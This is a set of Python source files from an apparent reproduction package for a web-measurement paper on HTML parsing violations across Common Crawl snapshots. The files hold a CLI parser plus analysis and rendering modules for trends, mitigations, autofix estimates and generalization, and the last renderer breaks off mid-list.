        "--max-body", type=int, default=2 * 1024 * 1024,
        help="request body limit in bytes (default 2 MiB)",
    )
    serve_parser.add_argument(
        "--queue-limit", type=int, default=64,
        help="max admitted CPU requests before answering 429 (default 64)",
    )
    serve_parser.add_argument(
        "--deadline", type=float, default=30.0,
        help="per-request wall-clock budget in seconds (default 30)",
    )
    serve_parser.add_argument(
        "--no-access-log", action="store_true",
        help="suppress the JSON access log on stderr",
    )
    serve_parser.add_argument(
        "--batch-window", type=int, default=8,
        help="max /check-batch lines in flight at once (default 8)",
    )
    serve_parser.add_argument(
        "--procs", type=int, default=1,
        help="pre-forked acceptor processes sharing one listening socket "
        "(default 1: single process)",
    )
    serve_parser.add_argument(
        "--shared-cache", action="store_true",
        help="use the cross-process shared result cache (one hit set "
        "across all --procs acceptors)",
    )
    serve_parser.set_defaults(func=cmd_serve)

    loadgen_parser = sub.add_parser(
        "loadgen",
        help="open-loop load sweep against the service (saturation curve)",
    )
    loadgen_parser.add_argument(
        "--steps", default="",
        help="comma-separated target RPS steps (default 50,100,200,400,800)",
    )
    loadgen_parser.add_argument(
        "--duration", type=float, default=3.0,
        help="seconds of offered load per step (default 3)",
    )
    loadgen_parser.add_argument("--seed", type=int, default=42)
    loadgen_parser.add_argument(
        "--distinct", type=int, default=16,
        help="distinct documents in the corpus (default 16)",
    )
    loadgen_parser.add_argument(
        "--connections", type=int, default=8,
        help="concurrent client connections (default 8)",
    )
    loadgen_parser.add_argument(
        "--no-keepalive", action="store_true",
        help="dial a fresh connection per request (the PR 4 baseline)",
    )
    loadgen_parser.add_argument(
        "--no-warmup", action="store_true",
        help="skip the cache warmup pass (measure cold misses)",
    )
    loadgen_parser.add_argument(
        "--workers", type=int, default=1,
        help="server worker-pool size (default 1)",
    )
    loadgen_parser.add_argument(
        "--procs", type=int, default=1,
        help="server pre-forked acceptors (default 1)",
    )
    loadgen_parser.add_argument(
        "--shared-cache", action="store_true",
        help="server uses the cross-process shared cache",
    )
    loadgen_parser.add_argument(
        "--cache-size", type=int, default=1024,
        help="server cache entries (default 1024)",
    )
    loadgen_parser.add_argument(
        "--output", metavar="FILE", default=None,
        help="write the repro-bench/1 snapshot here",
    )
    loadgen_parser.add_argument(
        "--label", default="", help="provenance label stored in the snapshot"
    )
    loadgen_parser.add_argument(
        "--quick", action="store_true",
        help="tiny sweep for CI smoke (2 steps, 0.5s each)",
    )
    loadgen_parser.set_defaults(func=cmd_loadgen)

    bench_parser = sub.add_parser(
        "bench", help="run parser benchmarks and write a BENCH_*.json snapshot"
    )
    bench_parser.add_argument(
        "--output", metavar="FILE", default=None,
        help="write the machine-readable snapshot here",
    )
    bench_parser.add_argument(
        "--repeat", type=int, default=5,
        help="timing rounds; the minimum wins (default 5)",
    )
    bench_parser.add_argument(
        "--number", type=int, default=20,
        help="inner iterations per round (default 20)",
    )
    bench_parser.add_argument(
        "--quick", action="store_true",
        help="single iteration of everything (CI smoke)",
    )
    bench_parser.add_argument(
        "--no-rules", action="store_true",
        help="skip the per-rule cost measurements",
    )
    bench_parser.add_argument(
        "--no-pipeline", action="store_true",
        help="skip the miniature end-to-end pipeline case",
    )
    bench_parser.add_argument(
        "--label", default="",
        help="provenance label stored in the snapshot",
    )
    bench_parser.set_defaults(func=cmd_bench)

    args = parser.parse_args(argv)
    try:
        return args.func(args)
    except BrokenPipeError:
        # downstream consumer (e.g. `| head`) closed the pipe: not an error
        sys.stderr.close()
        return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
