"""Section 4.2 context measurement: foreign-root element adoption.

"Our data show that the number of usages of math elements grew over the
previous years from 42 domains in 2015 to 224 domains in 2022" — the
paper uses this to argue that `math`-related violations are rare *despite*
growing adoption, making them prime candidates for early enforcement.
"""
from __future__ import annotations

from dataclasses import dataclass

from ..commoncrawl import calibration as cal
from ..core.features import PAPER_MATH_DOMAINS
from ..pipeline import Storage


@dataclass(frozen=True, slots=True)
class UsagePoint:
    year: int
    analyzed_domains: int
    math_domains: int
    svg_domains: int

    @property
    def math_fraction(self) -> float:
        if not self.analyzed_domains:
            return 0.0
        return self.math_domains / self.analyzed_domains

    @property
    def svg_fraction(self) -> float:
        if not self.analyzed_domains:
            return 0.0
        return self.svg_domains / self.analyzed_domains


@dataclass(frozen=True, slots=True)
class ElementUsageTrend:
    points: tuple[UsagePoint, ...]
    paper_math_domains: dict = None  # type: ignore[assignment]

    @property
    def math_is_growing(self) -> bool:
        halves = len(self.points) // 2
        early = sum(p.math_fraction for p in self.points[:halves])
        late = sum(p.math_fraction for p in self.points[halves:])
        return late >= early


def element_usage_trend(storage: Storage) -> ElementUsageTrend:
    points = []
    for _id, _name, year in storage.snapshots():
        counts = storage.element_usage_counts(year)
        points.append(
            UsagePoint(
                year=year,
                analyzed_domains=storage.analyzed_domains(year),
                math_domains=counts["math"],
                svg_domains=counts["svg"],
            )
        )
    return ElementUsageTrend(
        points=tuple(points), paper_math_domains=PAPER_MATH_DOMAINS
    )


def render_element_usage(trend: ElementUsageTrend) -> str:
    lines = [
        "Section 4.2: math/svg element adoption "
        "(paper: math on 42 domains in 2015 -> 224 in 2022)",
        f"{'Year':<6}{'math domains':>14}{'math %':>9}{'svg domains':>13}"
        f"{'svg %':>8}  paper math %",
    ]
    for point in trend.points:
        paper_math = ""
        if point.year in PAPER_MATH_DOMAINS:
            paper_math = (
                f"{PAPER_MATH_DOMAINS[point.year] / cal.TOTAL_ANALYZED_DOMAINS:.2%}"
            )
        lines.append(
            f"{point.year:<6}{point.math_domains:>14}"
            f"{point.math_fraction:>8.2%}{point.svg_domains:>13}"
            f"{point.svg_fraction:>7.1%}  {paper_math}"
        )
    lines.append(f"math usage growing: {trend.math_is_growing}")
    return "\n".join(lines) + "\n"
