"""Section 4.5 — what do the deployed Chromium mitigations actually hit?

Two measurements, compared between the first (2015) and last (2022)
snapshots, plus West's 2017 Chrome telemetry for reference:

* domains with ``<script`` inside an attribute (nonce-stealing mitigation
  scope) — and whether any are actually nonced scripts (the paper: none);
* domains with a newline in a URL, and the subset that also contains
  ``<`` (blocked by Chromium since 2017).
"""
from __future__ import annotations

from dataclasses import dataclass

from ..commoncrawl import calibration as cal
from ..pipeline import Storage


@dataclass(frozen=True, slots=True)
class MitigationYear:
    year: int
    analyzed_domains: int
    script_in_attr_domains: int
    nonced_script_in_attr_domains: int
    nl_in_url_domains: int
    nl_lt_in_url_domains: int

    def fraction(self, count: int) -> float:
        if not self.analyzed_domains:
            return 0.0
        return count / self.analyzed_domains


@dataclass(frozen=True, slots=True)
class MitigationComparison:
    first: MitigationYear
    last: MitigationYear
    #: paper values: (count, fraction) tuples keyed as in calibration
    paper: dict = None  # type: ignore[assignment]

    @property
    def nonce_mitigation_affects_anyone(self) -> bool:
        """Would the nonce-stealing mitigation break any measured domain?
        (The paper found: no — the '<script' strings are never on nonced
        scripts.)"""
        return (
            self.first.nonced_script_in_attr_domains > 0
            or self.last.nonced_script_in_attr_domains > 0
        )

    @property
    def url_mitigation_conflicts_decreasing(self) -> bool:
        return (
            self.last.fraction(self.last.nl_lt_in_url_domains)
            < self.first.fraction(self.first.nl_lt_in_url_domains)
        )


def measure_year(storage: Storage, year: int) -> MitigationYear:
    counts = storage.mitigation_domain_counts(year)
    return MitigationYear(
        year=year,
        analyzed_domains=storage.analyzed_domains(year),
        script_in_attr_domains=counts["script_in_attr"],
        nonced_script_in_attr_domains=counts["nonced_script_in_attr"],
        nl_in_url_domains=counts["nl_in_url"],
        nl_lt_in_url_domains=counts["nl_lt_in_url"],
    )


def compare_mitigations(
    storage: Storage, first_year: int = 2015, last_year: int = 2022
) -> MitigationComparison:
    return MitigationComparison(
        first=measure_year(storage, first_year),
        last=measure_year(storage, last_year),
        paper=cal.MITIGATIONS,
    )
