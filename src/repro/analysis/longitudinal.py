"""Section 4.3 longitudinal analyses: Figures 9, 10 and 16–21.

All series are fractions of *analyzed* domains in each year's snapshot,
exactly as in the paper.
"""
from __future__ import annotations

from dataclasses import dataclass

from ..commoncrawl import calibration as cal
from ..core.violations import ALL_IDS, IDS_BY_GROUP, Group
from ..pipeline import Storage


@dataclass(frozen=True, slots=True)
class TrendPoint:
    year: int
    analyzed_domains: int
    violating_domains: int

    @property
    def fraction(self) -> float:
        if not self.analyzed_domains:
            return 0.0
        return self.violating_domains / self.analyzed_domains


@dataclass(frozen=True, slots=True)
class TrendSeries:
    """One line of a trend figure."""

    label: str
    points: tuple[TrendPoint, ...]
    paper_values: tuple[float, ...] | None = None

    def fractions(self) -> tuple[float, ...]:
        return tuple(point.fraction for point in self.points)

    @property
    def direction(self) -> str:
        """Rough trend direction between the first and last point."""
        values = self.fractions()
        if len(values) < 2:
            return "flat"
        delta = values[-1] - values[0]
        if abs(delta) < 0.005:
            return "flat"
        return "down" if delta < 0 else "up"


def _years(storage: Storage) -> list[int]:
    return [year for _id, _name, year in storage.snapshots()]


def figure9_overall_trend(storage: Storage) -> TrendSeries:
    """Figure 9: % of domains with at least one violation, per year."""
    points = []
    for year in _years(storage):
        points.append(
            TrendPoint(
                year=year,
                analyzed_domains=storage.analyzed_domains(year),
                violating_domains=storage.domains_with_any_violation(year),
            )
        )
    paper = tuple(
        cal.OVERALL_VIOLATING[point.year]
        for point in points
        if point.year in cal.OVERALL_VIOLATING
    )
    return TrendSeries(
        label="Domains with violation",
        points=tuple(points),
        paper_values=paper or None,
    )


def figure10_group_trends(storage: Storage) -> dict[Group, TrendSeries]:
    """Figure 10: per problem group, % of domains violating ≥1 group rule."""
    series: dict[Group, TrendSeries] = {}
    years = _years(storage)
    for group, ids in IDS_BY_GROUP.items():
        points = []
        for year in years:
            points.append(
                TrendPoint(
                    year=year,
                    analyzed_domains=storage.analyzed_domains(year),
                    violating_domains=storage.domains_with_violations_in(ids, year),
                )
            )
        series[group] = TrendSeries(label=group.value, points=tuple(points))
    return series


def violation_trend(storage: Storage, violation_id: str) -> TrendSeries:
    """One line of Figures 16–21: a single violation's yearly prevalence."""
    points = []
    for year in _years(storage):
        counts = storage.violation_domain_counts(year)
        points.append(
            TrendPoint(
                year=year,
                analyzed_domains=storage.analyzed_domains(year),
                violating_domains=counts.get(violation_id, 0),
            )
        )
    paper = None
    if violation_id in cal.YEARLY_PREVALENCE:
        paper = tuple(
            cal.YEARLY_PREVALENCE[violation_id][cal.YEARS.index(point.year)]
            for point in points
            if point.year in cal.YEARS
        )
    return TrendSeries(label=violation_id, points=tuple(points), paper_values=paper)


def all_violation_trends(storage: Storage) -> dict[str, TrendSeries]:
    """Every individual violation's trend (the appendix B figures).

    Computed in one pass over per-year counts rather than 20 query rounds.
    """
    years = _years(storage)
    analyzed = {year: storage.analyzed_domains(year) for year in years}
    per_year_counts = {
        year: storage.violation_domain_counts(year) for year in years
    }
    trends: dict[str, TrendSeries] = {}
    for violation_id in ALL_IDS:
        points = tuple(
            TrendPoint(
                year=year,
                analyzed_domains=analyzed[year],
                violating_domains=per_year_counts[year].get(violation_id, 0),
            )
            for year in years
        )
        paper = None
        if violation_id in cal.YEARLY_PREVALENCE:
            paper = tuple(
                cal.YEARLY_PREVALENCE[violation_id][cal.YEARS.index(year)]
                for year in years
                if year in cal.YEARS
            )
        trends[violation_id] = TrendSeries(
            label=violation_id, points=points, paper_values=paper
        )
    return trends


#: The appendix figures and which violations each plots.
APPENDIX_FIGURES: dict[str, tuple[str, ...]] = {
    "figure16_filter_bypass": ("FB2", "FB1"),
    "figure17_formatting_1": ("HF1", "HF2", "HF3"),
    "figure18_formatting_2": ("HF4", "HF5_1", "HF5_2", "HF5_3"),
    "figure19_data_manipulation": ("DM1", "DM2_1", "DM2_2", "DM2_3", "DM3"),
    "figure20_data_exfiltration_1": ("DE3_1", "DE3_2", "DE3_3"),
    "figure21_data_exfiltration_2": ("DE1", "DE2", "DE4"),
}


def appendix_figure(storage: Storage, figure: str) -> dict[str, TrendSeries]:
    """All series of one appendix figure (e.g. ``figure16_filter_bypass``)."""
    ids = APPENDIX_FIGURES[figure]
    trends = all_violation_trends(storage)
    return {violation_id: trends[violation_id] for violation_id in ids}
