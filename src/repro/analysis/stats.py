"""Section 4.2 general statistics and Figure 8.

Figure 8 pools all eight snapshots: on how many domains did each violation
appear at least once over the whole study period, ranked by prevalence.
"""
from __future__ import annotations

from dataclasses import dataclass

from ..commoncrawl import calibration as cal
from ..core.violations import ALL_IDS
from ..pipeline import Storage


@dataclass(frozen=True, slots=True)
class DistributionEntry:
    """One bar of Figure 8."""

    violation: str
    domains: int
    fraction: float            # of all analyzed domains
    paper_fraction: float      # the published value


@dataclass(frozen=True, slots=True)
class GeneralStats:
    total_domains: int
    domains_with_any_violation: int
    distribution: tuple[DistributionEntry, ...]

    @property
    def any_violation_fraction(self) -> float:
        if not self.total_domains:
            return 0.0
        return self.domains_with_any_violation / self.total_domains

    #: the paper's value for the same statistic (92%)
    paper_any_violation_fraction: float = (
        cal.DOMAINS_WITH_ANY_VIOLATION / cal.TOTAL_ANALYZED_DOMAINS
    )


def figure8_distribution(storage: Storage) -> GeneralStats:
    """Compute the Figure 8 distribution from the results database."""
    total = storage.total_domains_analyzed()
    counts = storage.violation_domain_counts(year=None)
    entries = [
        DistributionEntry(
            violation=violation,
            domains=counts.get(violation, 0),
            fraction=(counts.get(violation, 0) / total) if total else 0.0,
            paper_fraction=cal.UNION_PREVALENCE[violation],
        )
        for violation in ALL_IDS
    ]
    entries.sort(key=lambda entry: entry.domains, reverse=True)
    return GeneralStats(
        total_domains=total,
        domains_with_any_violation=storage.domains_with_any_violation(year=None),
        distribution=tuple(entries),
    )
