"""Section 4.4 — how many violating domains could automation fix?

The paper: "if developers would repair all automatically correctable
violations, instead of 15337 (68%) violating websites in 2022, the number
would be 8298 (37%) today.  This would fix over 46% of all violating
websites."  A domain leaves the violating set when *all* of its violations
are auto-fixable (FB1, FB2, DM1, DM2_*, DM3).
"""
from __future__ import annotations

from dataclasses import dataclass

from ..commoncrawl import calibration as cal
from ..core.violations import AUTO_FIXABLE_IDS
from ..pipeline import Storage


@dataclass(frozen=True, slots=True)
class AutofixEstimate:
    year: int
    analyzed_domains: int
    violating_domains: int
    #: domains whose every violation is auto-fixable
    fully_fixable_domains: int

    @property
    def violating_fraction(self) -> float:
        if not self.analyzed_domains:
            return 0.0
        return self.violating_domains / self.analyzed_domains

    @property
    def after_autofix_domains(self) -> int:
        return self.violating_domains - self.fully_fixable_domains

    @property
    def after_autofix_fraction(self) -> float:
        if not self.analyzed_domains:
            return 0.0
        return self.after_autofix_domains / self.analyzed_domains

    @property
    def fraction_fixed(self) -> float:
        """Share of violating domains removed by the automated repair."""
        if not self.violating_domains:
            return 0.0
        return self.fully_fixable_domains / self.violating_domains

    # paper values for the same quantities
    paper_violating_fraction: float = 0.68
    paper_after_autofix_fraction: float = 0.37
    paper_fraction_fixed: float = cal.AUTOFIX["fraction_fixed"]


def estimate_autofix(storage: Storage, year: int = 2022) -> AutofixEstimate:
    """Classify each violating domain in ``year`` by auto-fixability."""
    violation_sets = storage.domain_violation_sets(year)
    violating = len(violation_sets)
    fully_fixable = sum(
        1
        for violations in violation_sets.values()
        if violations <= AUTO_FIXABLE_IDS
    )
    return AutofixEstimate(
        year=year,
        analyzed_domains=storage.analyzed_domains(year),
        violating_domains=violating,
        fully_fixable_domains=fully_fixable,
    )
