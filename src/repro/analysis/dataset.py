"""Table 2 — "Analyzed domains per crawl" — from measured study data."""
from __future__ import annotations

from dataclasses import dataclass

from ..commoncrawl import calibration as cal
from ..pipeline import Storage


@dataclass(frozen=True, slots=True)
class DatasetRow:
    """One row of Table 2: snapshot, domain counts, average pages."""

    snapshot: str
    year: int
    domains: int
    analyzed: int
    avg_pages: float

    @property
    def success_rate(self) -> float:
        return self.analyzed / self.domains if self.domains else 0.0


@dataclass(frozen=True, slots=True)
class DatasetSummary:
    rows: tuple[DatasetRow, ...]
    total_domains: int          # analyzed at least once over all snapshots
    total_pages: int
    #: declared-encoding distribution (section 4.1 filter context)
    encoding_distribution: dict = None  # type: ignore[assignment]
    paper_rows: tuple[cal.SnapshotSpec, ...] = cal.SNAPSHOTS


def dataset_table(storage: Storage) -> DatasetSummary:
    """Compute Table 2 from the results database."""
    rows = tuple(
        DatasetRow(
            snapshot=row["name"],
            year=row["year"],
            domains=row["found"],
            analyzed=row["analyzed"],
            avg_pages=row["avg_pages"],
        )
        for row in storage.dataset_stats()
    )
    return DatasetSummary(
        rows=rows,
        total_domains=storage.total_domains_analyzed(),
        total_pages=storage.total_pages_checked(),
        encoding_distribution=storage.declared_encoding_distribution(),
    )
