"""Section 5.1 — the dynamic-content pre-study.

The paper: "We analyzed 100 pages for each of the top 1K Tranco websites
in July 2021 and collected all dynamically loaded HTML fragments. ...
more than 60% of the websites have at least one violation.  The
distribution of the violations is also similar to the one seen in this
study."

This module runs that pre-study over synthesized dynamic fragments
(:mod:`repro.commoncrawl.fragmentgen`), checking each fragment with the
innerHTML parsing algorithm, and quantifies "similar distribution" with a
Spearman rank correlation against the static study's Figure 8 ranking.
"""
from __future__ import annotations

from collections import Counter
from dataclasses import dataclass

from scipy.stats import spearmanr

from ..commoncrawl import calibration as cal
from ..commoncrawl.fragmentgen import generate_domain_fragments
from ..commoncrawl.tranco import generate_domain_pool
from ..core import Checker
from ..core.violations import ALL_IDS


@dataclass(frozen=True, slots=True)
class DynamicPrestudy:
    domains: int
    fragments_checked: int
    domains_with_violation: int
    #: per violation id: domains with >=1 violating fragment
    distribution: dict[str, int]

    @property
    def violating_fraction(self) -> float:
        if not self.domains:
            return 0.0
        return self.domains_with_violation / self.domains

    paper_violating_fraction: float = cal.DYNAMIC_PRESTUDY_VIOLATING

    def top_violations(self, count: int = 3) -> list[str]:
        ranked = sorted(
            self.distribution, key=self.distribution.__getitem__, reverse=True
        )
        return ranked[:count]

    def rank_correlation_with_static(
        self, static_counts: dict[str, int]
    ) -> float:
        """Spearman rank correlation of per-violation domain counts between
        dynamic and static measurements ("the distribution ... is similar").
        Only violations observable in fragments are compared (head/body
        structure does not exist in a fragment).
        """
        comparable = [
            violation
            for violation in ALL_IDS
            if violation not in ("HF1", "HF2", "HF3", "DM1", "DM2_1",
                                 "DM2_2", "DM2_3", "DE1", "DE2", "DE3_3")
        ]
        dynamic = [self.distribution.get(v, 0) for v in comparable]
        static = [static_counts.get(v, 0) for v in comparable]
        correlation, _p = spearmanr(dynamic, static)
        return float(correlation)


def run_dynamic_prestudy(
    *,
    num_domains: int = 100,
    fragments_per_domain: int = 20,
    seed: int = 42,
    checker: Checker | None = None,
) -> DynamicPrestudy:
    """Generate and check dynamic fragments for the top domains."""
    checker = checker or Checker()
    pool = generate_domain_pool(num_domains)
    distribution: Counter = Counter()
    domains_with_violation = 0
    fragments_checked = 0
    for domain in pool:
        violated: set[str] = set()
        for spec in generate_domain_fragments(
            domain, count=fragments_per_domain, seed=seed
        ):
            report = checker.check_fragment(spec.html, url=f"https://{domain}/x")
            fragments_checked += 1
            violated |= report.violated
        if violated:
            domains_with_violation += 1
        for violation in violated:
            distribution[violation] += 1
    return DynamicPrestudy(
        domains=len(pool),
        fragments_checked=fragments_checked,
        domains_with_violation=domains_with_violation,
        distribution=dict(distribution),
    )


def render_dynamic(prestudy: DynamicPrestudy, static_counts: dict[str, int] | None = None) -> str:
    lines = [
        "Section 5.1: Dynamic-content pre-study",
        f"  domains: {prestudy.domains}, fragments checked: "
        f"{prestudy.fragments_checked}",
        f"  domains with >=1 violating fragment: "
        f"{prestudy.domains_with_violation} "
        f"({prestudy.violating_fraction:.1%}; paper: >60%)",
        f"  top violations: {', '.join(prestudy.top_violations())} "
        "(paper: FB2 and DM3 in top positions)",
    ]
    if static_counts is not None:
        correlation = prestudy.rank_correlation_with_static(static_counts)
        lines.append(
            f"  Spearman rank correlation with static Figure 8: "
            f"{correlation:.2f} (paper: 'distribution is similar')"
        )
    return "\n".join(lines) + "\n"
