"""Section 5.2 — do the results generalize beyond popular sites?

The paper sampled random non-popular websites from Common Crawl and found
"the distribution of violations on less popular websites is again similar
to the one on top websites.  However, as expected, popular websites seem
to have more violations on average than less popular websites" — top
sites are larger, more complex (more SVG), and refactored more often.

This module reproduces that comparison: a long-tail population is
generated with the same injector model but damped prevalence and smaller
pages, both populations are run through the same checker, and the
comparison reports the rank correlation of their violation distributions
plus the mean violations-per-domain gap.
"""
from __future__ import annotations

import random
from collections import Counter
from dataclasses import dataclass

from scipy.stats import spearmanr

from ..commoncrawl.corpusgen import build_injector_targets
from ..commoncrawl.templates import INJECTORS, build_page
from ..core import Checker
from ..core.violations import ALL_IDS

#: damping applied to per-injector prevalence for the long tail (the paper
#: observed *fewer* violations per non-popular domain)
TAIL_PREVALENCE_SCALE = 0.7
#: long-tail pages are smaller and plainer (less SVG, fewer sections)
TAIL_PAGES_PER_DOMAIN = 3
POPULAR_PAGES_PER_DOMAIN = 6


@dataclass(frozen=True, slots=True)
class PopulationStats:
    label: str
    domains: int
    violating_domains: int
    mean_violation_types_per_domain: float
    distribution: dict[str, int]

    @property
    def violating_fraction(self) -> float:
        return self.violating_domains / self.domains if self.domains else 0.0


@dataclass(frozen=True, slots=True)
class GeneralizationComparison:
    popular: PopulationStats
    tail: PopulationStats

    @property
    def rank_correlation(self) -> float:
        """Spearman correlation of per-violation domain counts."""
        popular = [self.popular.distribution.get(v, 0) for v in ALL_IDS]
        tail = [self.tail.distribution.get(v, 0) for v in ALL_IDS]
        correlation, _p = spearmanr(popular, tail)
        return float(correlation)

    @property
    def popular_has_more_violations(self) -> bool:
        return (
            self.popular.mean_violation_types_per_domain
            > self.tail.mean_violation_types_per_domain
        )


def _measure_population(
    label: str,
    *,
    num_domains: int,
    pages: int,
    prevalence_scale: float,
    svg_rate: float,
    seed: int,
    checker: Checker,
) -> PopulationStats:
    targets = build_injector_targets()
    year_index = len(targets["FB2"].yearly) - 1  # 2022 rates
    distribution: Counter = Counter()
    violating = 0
    total_types = 0
    for index in range(num_domains):
        domain = f"{label}{index:05d}.example"
        active = [
            name
            for name, target in targets.items()
            if INJECTORS[name].effects
            and random.Random(f"{seed}:{label}:trait:{domain}:{name}").random()
            < target.yearly[year_index] * prevalence_scale
        ]
        violated: set[str] = set()
        for page_index in range(pages):
            rng = random.Random(f"{seed}:{label}:{domain}:{page_index}")
            draft = build_page(
                domain, f"/p{page_index}", rng, use_svg=rng.random() < svg_rate
            )
            page_injectors = [
                name
                for name in active
                if random.Random(
                    f"{seed}:{label}:hit:{domain}:{name}:{page_index}"
                ).random() < 0.4
            ]
            page_injectors.sort(key=lambda name: INJECTORS[name].terminal)
            for name in page_injectors:
                INJECTORS[name].apply(draft, rng)
            report = checker.check_html(draft.render())
            violated |= report.violated
        if violated:
            violating += 1
        total_types += len(violated)
        for violation in violated:
            distribution[violation] += 1
    return PopulationStats(
        label=label,
        domains=num_domains,
        violating_domains=violating,
        mean_violation_types_per_domain=total_types / num_domains,
        distribution=dict(distribution),
    )


def run_generalization_study(
    *,
    num_domains: int = 80,
    seed: int = 42,
    checker: Checker | None = None,
) -> GeneralizationComparison:
    """Measure a popular and a long-tail population with the same checker."""
    checker = checker or Checker()
    popular = _measure_population(
        "popular",
        num_domains=num_domains,
        pages=POPULAR_PAGES_PER_DOMAIN,
        prevalence_scale=1.0,
        svg_rate=0.4,
        seed=seed,
        checker=checker,
    )
    tail = _measure_population(
        "tail",
        num_domains=num_domains,
        pages=TAIL_PAGES_PER_DOMAIN,
        prevalence_scale=TAIL_PREVALENCE_SCALE,
        svg_rate=0.1,
        seed=seed,
        checker=checker,
    )
    return GeneralizationComparison(popular=popular, tail=tail)


def render_generalization(comparison: GeneralizationComparison) -> str:
    popular, tail = comparison.popular, comparison.tail
    return (
        "Section 5.2: Generalization to less popular websites\n"
        f"  popular: {popular.violating_domains}/{popular.domains} violating "
        f"({popular.violating_fraction:.1%}), "
        f"{popular.mean_violation_types_per_domain:.2f} violation types/domain\n"
        f"  tail:    {tail.violating_domains}/{tail.domains} violating "
        f"({tail.violating_fraction:.1%}), "
        f"{tail.mean_violation_types_per_domain:.2f} violation types/domain\n"
        f"  distribution rank correlation: {comparison.rank_correlation:.2f} "
        "(paper: 'again similar')\n"
        f"  popular > tail on average: "
        f"{comparison.popular_has_more_violations} "
        "(paper: 'popular websites seem to have more violations')\n"
    )
