"""Text renderers: print each table/figure the way the paper reports it,
with a paper-vs-measured column so benchmark output is self-explaining.
"""
from __future__ import annotations

from io import StringIO

from ..commoncrawl import calibration as cal
from ..core.violations import Group
from .autofix_estimate import AutofixEstimate
from .dataset import DatasetSummary
from .longitudinal import TrendSeries
from .mitigations import MitigationComparison
from .stats import GeneralStats


def _pct(value: float) -> str:
    return f"{value * 100:5.2f}%"


def render_table(headers: list[str], rows: list[list[str]]) -> str:
    """A plain fixed-width table."""
    widths = [len(header) for header in headers]
    for row in rows:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))
    out = StringIO()
    line = "  ".join(header.ljust(widths[i]) for i, header in enumerate(headers))
    out.write(line + "\n")
    out.write("  ".join("-" * width for width in widths) + "\n")
    for row in rows:
        out.write(
            "  ".join(cell.ljust(widths[i]) for i, cell in enumerate(row)) + "\n"
        )
    return out.getvalue()


def render_table2(summary: DatasetSummary) -> str:
    """Table 2: analyzed domains per crawl, measured vs paper shape."""
    paper_by_year = {spec.year: spec for spec in summary.paper_rows}
    rows = []
    for row in summary.rows:
        paper = paper_by_year.get(row.year)
        rows.append(
            [
                row.snapshot,
                str(row.domains),
                f"{row.analyzed} ({_pct(row.success_rate).strip()})",
                f"{row.avg_pages:.1f}",
                f"{paper.succeeded / paper.domains * 100:.1f}%" if paper else "-",
                f"{paper.avg_pages:.1f}" if paper else "-",
            ]
        )
    table = render_table(
        ["Snapshot", "Domains", "Succ. Analyzed", "Avg Pages",
         "Paper Succ.", "Paper Avg"],
        rows,
    )
    footer = (
        f"Total analyzed domains: {summary.total_domains} "
        f"(paper: {cal.TOTAL_ANALYZED_DOMAINS}); "
        f"pages checked: {summary.total_pages} "
        f"(paper: {cal.TOTAL_ANALYZED_PAGES:,})\n"
    )
    if summary.encoding_distribution:
        total_pages = sum(summary.encoding_distribution.values())
        utf8 = summary.encoding_distribution.get("utf-8", 0)
        footer += (
            f"Declared encodings: {utf8 / total_pages:.1%} utf-8 "
            f"(paper/CC: >90% utf-8); others: "
            + ", ".join(
                f"{name} {count}"
                for name, count in summary.encoding_distribution.items()
                if name != "utf-8"
            )
            + "\n"
        )
    return "Table 2: Analyzed domains per crawl\n" + table + footer


def render_figure8(stats: GeneralStats) -> str:
    """Figure 8: distribution of violations over the study period."""
    rows = [
        [
            entry.violation,
            str(entry.domains),
            _pct(entry.fraction),
            _pct(entry.paper_fraction),
            "#" * max(1, int(entry.fraction * 60)) if entry.domains else "",
        ]
        for entry in stats.distribution
    ]
    table = render_table(
        ["Violation", "Domains", "Measured", "Paper", ""], rows
    )
    footer = (
        f"Domains with >=1 violation over all years: "
        f"{stats.domains_with_any_violation}/{stats.total_domains} "
        f"({_pct(stats.any_violation_fraction).strip()}; paper: "
        f"{_pct(stats.paper_any_violation_fraction).strip()})\n"
    )
    return (
        "Figure 8: Average distribution of violations over the study period\n"
        + table + footer
    )


def render_trend(series: TrendSeries, title: str) -> str:
    """One trend line: year-by-year measured vs paper values."""
    rows = []
    for index, point in enumerate(series.points):
        paper = (
            _pct(series.paper_values[index])
            if series.paper_values and index < len(series.paper_values)
            else "-"
        )
        rows.append(
            [
                str(point.year),
                f"{point.violating_domains}/{point.analyzed_domains}",
                _pct(point.fraction),
                paper,
            ]
        )
    table = render_table(["Year", "Domains", "Measured", "Paper"], rows)
    return f"{title} [{series.label}] (trend: {series.direction})\n" + table


def render_group_trends(series_by_group: dict[Group, TrendSeries]) -> str:
    """Figure 10: problem-group trends, measured vs the quoted endpoints."""
    out = StringIO()
    out.write("Figure 10: Trend of problem groups over the years\n")
    years = [point.year for point in next(iter(series_by_group.values())).points]
    headers = ["Group"] + [str(year) for year in years] + ["Paper 2015->2022"]
    rows = []
    for group, series in series_by_group.items():
        endpoints = cal.GROUP_TREND_ENDPOINTS.get(group.value)
        paper = (
            f"{endpoints[0] * 100:.0f}% -> {endpoints[1] * 100:.0f}%"
            if endpoints
            else "-"
        )
        rows.append(
            [group.value]
            + [_pct(point.fraction).strip() for point in series.points]
            + [paper]
        )
    out.write(render_table(headers, rows))
    return out.getvalue()


def render_autofix(estimate: AutofixEstimate) -> str:
    """Section 4.4 summary block."""
    return (
        f"Section 4.4: Automatic fixability ({estimate.year})\n"
        f"  violating domains:        {estimate.violating_domains}/"
        f"{estimate.analyzed_domains} ({_pct(estimate.violating_fraction).strip()}; "
        f"paper: 68%)\n"
        f"  after automated repair:   {estimate.after_autofix_domains}/"
        f"{estimate.analyzed_domains} "
        f"({_pct(estimate.after_autofix_fraction).strip()}; paper: 37%)\n"
        f"  violating sites fixed:    {_pct(estimate.fraction_fixed).strip()} "
        f"(paper: >46%)\n"
    )


def render_mitigations(comparison: MitigationComparison) -> str:
    """Section 4.5 summary block."""
    first, last = comparison.first, comparison.last
    paper = comparison.paper
    rows = [
        [
            "'<script' in attribute",
            f"{first.script_in_attr_domains} "
            f"({_pct(first.fraction(first.script_in_attr_domains)).strip()})",
            f"{last.script_in_attr_domains} "
            f"({_pct(last.fraction(last.script_in_attr_domains)).strip()})",
            f"{paper['script_in_attr_2015'][0]} (1.5%) -> "
            f"{paper['script_in_attr_2022'][0]} (1.4%)",
        ],
        [
            "  ...on nonced scripts",
            str(first.nonced_script_in_attr_domains),
            str(last.nonced_script_in_attr_domains),
            "0 -> 0",
        ],
        [
            "newline in URL",
            f"{first.nl_in_url_domains} "
            f"({_pct(first.fraction(first.nl_in_url_domains)).strip()})",
